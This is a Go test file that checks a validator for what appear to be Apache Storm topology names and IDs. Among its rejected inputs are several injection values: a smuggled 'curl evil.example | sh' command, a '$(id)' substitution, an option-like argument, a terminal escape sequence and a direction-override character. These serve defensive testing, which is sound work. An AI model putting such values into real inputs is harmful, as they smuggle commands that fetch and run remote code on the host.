package storm

import (
	"strings"
	"testing"
)

func TestNameProblem(t *testing.T) {
	for _, tc := range []struct {
		reason, name, want string
	}{
		{"the guide's name", "wordcount-container", ""},
		{"Storm's own names have capitals and underscores", "Word_Count-2", ""},
		{"a name is required", "", "is empty"},
		{"Storm rejects / . : and backslash", "storm-system/wordcount", `for example to "storm-system-wordcount"`},
		{"Storm rejects a dot", "a.b", `has "."`},
		{"an id with a space is hard to type", "a b", `has " "`},
		{"Storm accepts it as a name and fails on it as a blob key", "zähler", `has "ä"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := NameProblem(tc.name)
			if tc.want == "" && got != "" || !strings.Contains(got, tc.want) {
				t.Errorf("NameProblem(%q) = %q, want %q: %s", tc.name, got, tc.want, tc.reason)
			}
		})
	}
}

func TestValidID(t *testing.T) {
	for _, tc := range []struct {
		reason, id string
		want       bool
	}{
		{"as Storm makes them", "wordcount-1-1767268800", true},
		{"the name may have dashes and numbers", "a-1-2-3-1767268800", true},
		{"the longest name", strings.Repeat("n", 200) + "-9223372036854775807-9223372036854775807", true},
		{"nothing", "", false},
		{"no counter", "wordcount-1767268800", false},
		{"no name", "-1-1767268800", false},
		{"no seconds", "wordcount-1-", false},
		{"seconds that are not a number", "wordcount-1-17a", false},
		{"a number of another script", "wordcount-1-١٢", false},
		{"a number larger than a long of Java", "wordcount-1-12345678901234567890", false},
		{"a second command", "wordcount-1-1000; curl evil.example | sh #", false},
		{"a second command before the numbers", "$(id)-1-1000", false},
		{"a second line", "wordcount-1-1000\n", false},
		{"an option", "--all -1-1000", false},
		{"a command for a terminal", "\x1b[2J-1-1000", false},
		{"a change of the direction of writing", "wordcount\u202e-1-1000", false},
		{"too long", strings.Repeat("n", 300) + "-1-1000", false},
	} {
		if got := ValidID(tc.id); got != tc.want {
			t.Errorf("ValidID(%q) = %v, want %v: %s", tc.id, got, tc.want, tc.reason)
		}
	}
}
